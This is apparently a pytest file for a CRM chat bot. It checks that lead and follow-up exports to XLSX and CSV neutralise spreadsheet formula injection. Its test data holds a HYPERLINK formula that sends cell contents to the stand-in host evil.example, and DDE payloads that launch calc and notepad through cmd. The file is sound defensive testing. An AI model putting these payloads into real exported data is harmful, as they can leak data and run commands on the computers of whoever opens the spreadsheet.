"""Formula injection into exported spreadsheets: a customer's name, contact, tag or a note that a
spreadsheet would run (`=HYPERLINK(…)`, `@SUM(…)`, `+…`, `-…`, a leading tab or carriage return)
is written as text — in XLSX a string cell with the quote prefix and no formula anywhere in the
sheet, in CSV behind an apostrophe — whether it came in through chat or an import."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, datetime

from openpyxl import load_workbook
from sqlmodel import select

from bot import exchange
from models.db import unit_of_work
from models.tables import Lead, Team
from tests.chat import Chat

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
TYPED = {  # what reaches the database through chat commands (no spaces, no control characters)
    "name": HYPERLINK,
    "contact": "@SUM(1+1)*cmd|'/C calc'!A0",
    "tag": "+1+1",
    "source": "-2+3",
}
IMPORTED = ["\t=1+1", "\r=1+1", "=cmd|' /C notepad'!A1", "@A1", "-1", "+1"]
RISKY = ("=", "+", "-", "@", "\t", "\r")


def _add_hostile_leads(chat: Chat) -> None:
    typed = " ".join(f"{key}={value}" for key, value in TYPED.items() if key != "name")
    assert chat.reply(f"/lead add {TYPED['name']} {typed} force=yes").ok
    assert chat.reply('/follow L1 =HYPERLINK("http://evil.example","x") via=call').ok
    with unit_of_work(chat.engine) as session:
        team = session.exec(select(Team)).one()
        for number, value in enumerate(IMPORTED, start=2):
            session.add(
                Lead(
                    team_id=team.id or 0,
                    number=number,
                    name=value,
                    company=value,
                    contact=value,
                    stage="lead",
                    last_activity_at=datetime.now(UTC),
                    stage_changed_at=datetime.now(UTC),
                    created_at=datetime.now(UTC),
                    owner_id=None,
                )
            )
        team.lead_seq = len(IMPORTED) + 1


def test_hostile_cells_are_text_in_xlsx(team: Chat) -> None:
    _add_hostile_leads(team)
    reply = team.reply("[erin] /report export")
    assert reply.file is not None and reply.file.filename.endswith(".xlsx")
    # No formula element anywhere in the workbook's sheets.
    with zipfile.ZipFile(io.BytesIO(reply.file.data)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", book.read(name)), name
    workbook = load_workbook(io.BytesIO(reply.file.data))
    risky_cells = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(RISKY)
    ]
    found = {cell.value for cell in risky_cells}
    assert HYPERLINK in found and TYPED["contact"] in found and "+1+1" in found
    assert set(IMPORTED) - {"\r=1+1"} <= found  # XLSX keeps the CR as _x000D_ or drops it
    for cell in risky_cells:
        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)


def test_hostile_cells_are_text_in_csv(team: Chat) -> None:
    _add_hostile_leads(team)
    for kind in ("leads", "followups"):
        reply = team.reply(f"[erin] /report export {kind} csv")
        assert reply.file is not None
        rows = list(csv.reader(io.StringIO(reply.file.data.decode("utf-8-sig"))))
        cells = [cell for row in rows[1:] for cell in row]
        assert not [cell for cell in cells if cell.startswith(RISKY)], kind
        assert any(cell.startswith("'=HYPERLINK") for cell in cells), kind


def test_dealbot_export_writes_the_same_neutral_cells(team: Chat) -> None:
    _add_hostile_leads(team)
    with unit_of_work(team.engine) as session:
        made = exchange.export(
            session, session.exec(select(Team)).one(), ["leads"], fmt="csv", locale="en"
        )
    rows = list(csv.reader(io.StringIO(made.data.decode("utf-8-sig"))))
    assert all(not cell.startswith(RISKY) for row in rows[1:] for cell in row)
